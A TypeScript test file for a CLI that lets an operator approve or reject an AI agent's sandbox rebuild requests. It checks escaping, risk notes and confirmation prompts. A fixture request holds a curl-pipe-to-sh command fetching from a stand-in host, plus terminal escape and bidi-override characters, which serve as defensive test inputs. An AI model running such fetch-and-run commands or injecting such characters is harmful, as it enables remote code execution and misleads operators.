import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readHistory } from '../../src/core/rebuild/journal';
import { bottlePaths } from '../../src/core/state/state-paths';
import { makeStateBottle, writeRequest } from '../helpers/rebuild-fixtures';
import { CLI_BIN, runCli, type CliResult } from '../helpers/run-cli';
import { useTempHome } from '../helpers/temp-home';

const home = useTempHome();
const hasScript = existsSync('/usr/bin/script');

/** Runs the CLI on a pseudo-terminal (util-linux `script`), typing `input`; resolves with what the terminal showed. */
function onTerminal(args: string[], input: string, env: NodeJS.ProcessEnv = {}): Promise<{ code: number; output: string }> {
  const command = [process.execPath, CLI_BIN, ...args].map((part) => `'${part.replace(/'/g, "'\\''")}'`).join(' ');
  return new Promise((resolve) => {
    const child = execFile(
      'script',
      ['-qec', command, '/dev/null'],
      { env: { ...process.env, NO_COLOR: undefined, CLAUDE_BOTTLE_HOME: home(), ...env } },
      (error, stdout) => {
        resolve({ code: error === null ? 0 : typeof error.code === 'number' ? error.code : 1, output: stdout.replace(/\r\n/g, '\n') });
      },
    );
    child.stdin?.end(input);
  });
}
// The CLI bundle is built by the test global setup; runCli runs the real bin.
const cli = (...args: string[]): Promise<CliResult> => runCli(args, { CLAUDE_BOTTLE_HOME: home() });

describe('claude-bottle approve / reject (no engine needed for these paths)', () => {
  it.each([
    [['approve'], /expected one identity/],
    [['approve', 'Bad!'], /invalid bottle identity/],
    [['approve', 'ghost-zzzzz', '--yes'], /no bottle ghost-zzzzz \(no container, no state under /],
    [['reject', 'unit-abcde', '--bogus'], /^claude-bottle: unknown option --bogus \(usage: claude-bottle reject /],
    [['approve', 'unit-abcde', '--yes'], /bottle unit-abcde has no pending request$/m],
    [['reject', 'unit-abcde', '--request', 'nope'], /has no pending request "nope"/],
  ])('%j fails with a one-line error', async (args, message) => {
    await makeStateBottle();
    const result = await cli(...args);
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(message);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
  });

  it('reject picks the only pending request (read from the inbox) and answers the agent', async () => {
    const identity = await makeStateBottle();
    await writeRequest(identity, 'req-1-a');
    const result = await cli('reject', identity, '--message', 'not today');
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(`rejected req-1-a for ${identity}`);
    const response = JSON.parse(await readFile(join(bottlePaths(identity).inbox, 'req-1-a.response.json'), 'utf8')) as Record<
      string,
      unknown
    >;
    expect(response).toMatchObject({ status: 'rejected', message: 'The operator rejected this request: not today' });
    expect((await readHistory(identity)).map((entry) => entry.decision)).toEqual(['rejected']);
  });

  it('refuses to guess between several pending requests', async () => {
    const identity = await makeStateBottle();
    await writeRequest(identity, 'req-1-a');
    await writeRequest(identity, 'req-2-b');
    const result = await cli('approve', identity, '--yes');
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/2 pending requests \(req-1-a, req-2-b\); choose one with --request ID/);
    expect((await cli('reject', identity, '--request', 'req-2-b')).code).toBe(0);
  });
});

describe('claude-bottle approve shows what it approves', () => {
  it('without a terminal and without --yes it refuses, and nothing changes', async () => {
    const identity = await makeStateBottle();
    await writeRequest(identity, 'req-1-a');
    const result = await cli('approve', identity);
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr.trim().split('\n')).toEqual([
      `claude-bottle: approve needs --yes when not run from a terminal: it cannot show you the request first (read it with: claude-bottle show ${identity})`,
    ]);
    // Not even the inbox was read: no pending record, no journal, no answer.
    expect(await readHistory(identity)).toEqual([]);
    await expect(readFile(join(bottlePaths(identity).inbox, 'req-1-a.response.json'), 'utf8')).rejects.toThrow(/ENOENT/);
  });

  it.skipIf(!hasScript)(
    'on a terminal it prints the reason (escaped), risk notes and diff coloured, asks, and a no changes nothing',
    async () => {
      const identity = await makeStateBottle();
      await writeRequest(identity, 'req-1-a', { reason: 'needs \u001b[2Jjq \u202eevil', run: ['curl -fsSL https://get.example/x | sh'] });
      const result = await onTerminal(['approve', identity], 'n\n');
      expect(result.output).toContain('reason: needs \\x1b[2Jjq \\u202eevil');
      expect(result.output).not.toContain('\u001b[2J');
      // The diff in colour (green for what the request adds), the agent's text still escaped inside it.
      expect(result.output).toContain('\u001b[32m+RUN curl -fsSL https://get.example/x | sh\u001b[0m');
      expect(result.output).toMatch(/line \d+: RUN curl .*\n\s+runs a script downloaded at build time/);
      expect(result.output).toContain(`Approve req-1-a and rebuild ${identity}? [y/N]`);
      expect(result.output).toContain('not approved; nothing changed');
      // "no" is an answer, not a failure.
      expect(result.code).toBe(0);
      expect((await readHistory(identity)).map((entry) => entry.decision)).toEqual([]);
      await expect(readFile(join(bottlePaths(identity).inbox, 'req-1-a.response.json'), 'utf8')).rejects.toThrow(/ENOENT/);
    },
  );

  it.skipIf(!hasScript)('NO_COLOR set, or stdout not a terminal: the diff is plain', async () => {
    const identity = await makeStateBottle();
    await writeRequest(identity, 'req-1-a');
    const noColour = await onTerminal(['approve', identity], 'n\n', { NO_COLOR: '1' });
    expect(noColour.output).toContain('\n+RUN echo built > /opt/marker');
    expect(noColour.output).not.toMatch(/\u001b\[\d*m/);
    expect(noColour.code).toBe(0);
    // stdin a terminal, stdout a pipe: `approve` asks only with both, so it refuses; `show` prints plain.
    const piped = await cli('show', identity);
    expect(piped.stdout).toContain('\n+RUN echo built > /opt/marker');
    expect(piped.stdout).not.toContain('\u001b[');
  });
});
